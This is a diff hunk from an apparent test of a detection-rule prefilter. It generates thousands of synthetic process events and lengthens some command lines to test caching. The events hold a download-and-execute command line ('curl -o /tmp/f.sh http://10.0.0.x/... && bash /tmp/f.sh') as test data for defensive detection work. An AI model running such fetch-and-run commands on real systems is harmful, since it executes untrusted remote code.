@@ -147,7 +147,7 @@ detection: { s: { '|all': [curl, 'server.js'] }, condition: s }
     }
     // Enough distinct command lines in a row that the prefilter stops remembering them, then repeats again.
     for (let i = 0; i < 2500; i++) {
-      const cl = `curl -o /tmp/f${i}.sh http://10.0.0.${i % 250}/x${i} && bash /tmp/f${i}.sh`;
+      const cl = `curl -o /tmp/f${i}.sh http://10.0.0.${i % 250}/x${i} && bash /tmp/f${i}.sh${i % 100 ? '' : ` # ${'x'.repeat(600)}`}`; // (some too long to remember)
       events.push({ ...events[i]!, id: 50_000 + i, process: { ...events[i]!.process, executable: '/usr/bin/curl', name: 'curl', command_line: cl, args: cl.split(' ') } });
     }
     // List fields (environment, argv) are scanned too.
